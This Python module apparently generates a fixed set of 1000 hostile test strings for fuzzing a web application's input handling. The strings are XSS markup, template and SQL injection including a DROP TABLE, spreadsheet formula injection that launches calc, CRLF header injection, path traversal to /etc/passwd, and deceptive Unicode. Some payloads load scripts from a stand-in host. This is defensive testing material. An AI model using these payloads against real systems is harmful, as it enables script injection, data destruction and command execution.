"""A thousand strings that people with bad intentions type, made from seeds, the same ones each time."""

import itertools
import unicodedata
from collections.abc import Iterator
from urllib.parse import quote

ELSEWHERE = "e.test"
COUNT = 1000

# What would run, open a dialog or fetch something, if it ever became part of a page.
_MARKUP = [
    "<script>alert({n})</script>",
    f"<script src=//{ELSEWHERE}/{{n}}.js></script>",
    "<img src=x onerror=alert({n})>",
    f'<img src="http://{ELSEWHERE}/{{n}}.gif">',
    "<svg onload=alert({n})>",
    "<svg><script>alert&#40;{n})</script></svg>",
    "<svg><animate onbegin=alert({n}) attributeName=x dur=1s>",
    '<math><mtext><table><mglyph><style><img src=x onerror="alert({n})">',
    "<math href=javascript:alert({n})>x</math>",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img src=x onerror=alert({n})>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert({n})>'>",
    "<details open ontoggle=alert({n})>x</details>",
    "<input autofocus onfocus=alert({n})>",
    "<video><source onerror=alert({n})></video>",
    "<body onpageshow=alert({n})>",
    "<iframe srcdoc='<script>parent.alert({n})</script>'></iframe>",
    f"<iframe src=https://{ELSEWHERE}/{{n}}></iframe>",
    "<object data=javascript:alert({n})></object>",
    "<embed src=data:text/html,<script>alert({n})</script>>",
    f"<base href=//{ELSEWHERE}/{{n}}/>",
    f"<link rel=stylesheet href=//{ELSEWHERE}/{{n}}.css>",
    f"<meta http-equiv=refresh content='0;url=//{ELSEWHERE}/{{n}}'>",
    f"<style>@import'//{ELSEWHERE}/{{n}}.css'</style>",
    f'<p style="background:url(//{ELSEWHERE}/{{n}})">x</p>',
    "<a href=javascript:alert({n})>x</a>",
    "<a href=' \x01javascript:alert({n})'>x</a>",
    "<a href='java\tscript:alert({n})'>x</a>",
    "<a href=data:text/html,<script>alert({n})</script>>x</a>",
    "<button formaction=javascript:alert({n})>x</button>",
    "<div hx-get=/mailings/ hx-trigger=load hx-on::load=alert({n})>x</div>",
    "<div data-hx-post=/sign-out/ hx-trigger=load>{n}</div>",
    "<template shadowrootmode=open><img src=x onerror=alert({n})></template>",
    "<xmp><p title='</xmp><img src=x onerror=alert({n})>'>",
    "<!--><img src=x onerror=alert({n})>-->",
    "<![CDATA[><img src=x onerror=alert({n})>]]>",
    "<marquee onstart=alert({n})>x</marquee>",
    "<dialog open oncancel=confirm({n})>x</dialog>",
    "<x contenteditable onblur=prompt({n}) autofocus>x",
]
# How it tries to get out of where it stands.
_AROUND = [
    "{}",
    '">{}',
    "'>{}",
    "</textarea>{}",
    "</title>{}",
    "</script>{}",
    "</svg>{}<svg>",
    "-->{}<!--",
    "]]>{}",
    "`{}`",
    "Холов {}",
]
_SHORT = 40
_ALTERED = [
    str.upper,
    str.swapcase,
    lambda text: text.replace("<", "&lt;").replace(">", "&gt;"),
    lambda text: text.replace("<", "&#x3c;"),
    lambda text: quote(text, safe=""),
    lambda text: text.replace("<", "＜").replace(">", "＞"),
    lambda text: text.replace("<", "\u02c2"),
    lambda text: text.replace("<", "<\u200b"),
    lambda text: text.replace(" ", "/"),
    lambda text: text.replace(" ", "\x0c"),
    lambda text: text.replace("script", "scr\u00adipt"),
    lambda text: text.replace("a", "\u0430").replace("e", "\u0435"),
    lambda text: f"\u202e{text[::-1]}\u202c",
    lambda text: text.encode("unicode_escape").decode().replace("<", "\\u003c"),
]
_OTHER = [
    # Templates, ours and others'
    "{{{{ settings.SECRET_KEY }}}}{n}", "{{% include 'base.html' %}}{n}", "{{% load static %}}{n}",
    "{{{{ {n}|safe }}}}",
    "{{{{constructor.constructor('alert({n})')()}}}}", "${{alert({n})}}", "#{{7*{n}}}", "<%= {n} %>", "{{имя|{n}}}",
    "{{name|<img src=x onerror=alert({n})>}}", "{{unsubscribe_url}}{n}", "{{{{}}}}{n}", "%(name)s{n}",
    "{{0.__class__}}{n}",
    # In attributes and in scripts
    '" onmouseover="alert({n})', "' autofocus onfocus='alert({n})", "` onload=`alert({n})", "x' style='color:red' {n}",
    "'-alert({n})-'", '";alert({n});//', "\\\\';alert({n})//", "</script><script>alert({n})//", "\u2028alert({n})",
    # Addresses
    "javascript:alert({n})", "JaVaScRiPt:alert({n})", "java\nscript:alert({n})",
    "data:text/html,<script>alert({n})</script>",
    "vbscript:msgbox({n})", f"//{ELSEWHERE}/{{n}}", f"https://{ELSEWHERE}/{{n}}", f"\\\\\\\\{ELSEWHERE}\\\\{{n}}",
    "blob:http://127.0.0.1/{n}", "file:///etc/passwd#{n}", "mailto:a@b.test?bcc={n}@c.test", "tel:{n};ext=<b>",
    # Headers of letters and of answers
    "Тема\r\nBcc: victim{n}@navid.test", "x\nX-Injected: {n}", "x\r\n\r\n<script>alert({n})</script>",
    "=?utf-8?q?{n}?=",
    "x%0d%0aSet-Cookie:%20a={n}", "\rContent-Type: text/html{n}",
    # Tables
    "=HYPERLINK(\"http://e.test/{n}\",\"x\")", "=cmd|' /C calc'!A{n}", "+SUM(1;{n})", "-{n}+3+cmd|' /C calc'!A0",
    "@SUM(A1:A{n})", "\t=1+{n}", "=IMPORTXML(\"//e.test/{n}\",\"//a\")", "%0A=1+{n}", "＝1+{n}",
    # Files and databases
    "../../../etc/passwd{n}", "..\\\\..\\\\windows\\\\win.ini{n}", "%2e%2e%2f{n}", "/dev/null{n}", "C:\\\\CON{n}",
    "a/b/{n}.csv",
    "' OR '{n}'='{n}", "'; DROP TABLE crm_contact; -- {n}", "\" UNION SELECT {n},password FROM accounts_user --",
    "%' AND 1=0 -- {n}", "\\\\{n}", "_%_%{n}", "{n}) RETURNING *--",
    # Letters that are not what they seem
    "\u202egpj.{n}exe", "Хо\u200bлов{n}", "\u2066Хо\u2069лов{n}", "\ufeffХолов{n}", "Х\u0336о\u0336лов{n}",
    "Z\u0351\u036b\u0343{n}" * 6,
    "\u0410\u043f\u043f\u04cf\u0435{n}", "\ud7ff{n}\ue000", "\U000e0041{n}", "\u061c{n}", "\u00a0{n}\u00a0",
    "\u3164{n}",
    "й{n}", "\ufdfd{n}", "👩\u200d👩\u200d👧{n}", "\u115f{n}", "\x7f{n}", "\u0085{n}", "\x1b[31m{n}", "\x08{n}",
    # Nothing, or too much
    "null{n}", "None{n}", "undefined{n}", "NaN{n}", "[object Object]{n}", "true{n}", "-{n}", "1e{n}", "0x{n}",
    "&nbsp;{n}",
    "&#0;{n}", "&#x202e;{n}", "&lt;b&gt;{n}", "&amp;lt;{n}", "<{n}", ">{n}", "&{n}", "<!{n}", "<?php {n} ?>", "</{n}>",
    "Ж{n}" + "Ж" * 300, "<b>{n}" * 60, "A{n} " * 100, "({n}" + "(" * 200, "<i{n}" + " a=1" * 60,
]  # fmt: skip


def _all() -> Iterator[str]:
    number = itertools.count(1)
    for form in _OTHER:
        yield form.format(n=next(number))
    for around, markup in itertools.product(_AROUND, _MARKUP):
        yield around.format(markup.format(n=next(number)))
    short = [markup for markup in _MARKUP if len(markup) < _SHORT]
    for change, around, markup in itertools.product(_ALTERED, ("{}", '">{}', "'>{}"), short):
        yield change(around.format(markup.format(n=next(number))))


def strings() -> list[str]:
    """Exactly COUNT, no two alike."""
    found = list(dict.fromkeys(_all()))
    # Every other one of the altered ones, so that each alteration is there.
    plain = len(_OTHER) + len(_AROUND) * len(_MARKUP)
    altered = found[plain:]
    step = len(altered) / (COUNT - plain)
    return found[:plain] + [altered[int(place * step)] for place in range(COUNT - plain)]


STRINGS = strings()


def packed(size: int, *, turn: int = 0, allowed=lambda _char: True) -> list[str]:
    """All of them in texts of at most `size` characters, several in one; `turn` says with which text to begin."""
    texts, text = [], ""
    for string in STRINGS:
        string = "".join(filter(allowed, string))[:size].strip() or "?"
        if text and len(text) + len(string) >= size:
            texts.append(text)
            text = string
        else:
            text = f"{text} {string}".strip()
    texts.append(text)
    turn %= len(texts)
    return texts[turn:] + texts[:turn]


def is_hidden(char: str) -> bool:
    """Whether a character steers how others are shown or is not seen at all."""
    return unicodedata.category(char) in {"Cc", "Cf", "Co", "Cs"}


def turns_round(char: str) -> bool:
    """Whether it shows the letters that follow in another order, or controls a terminal; an emoji's joiner does not."""
    return char in "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069" or unicodedata.category(char) == "Cc"
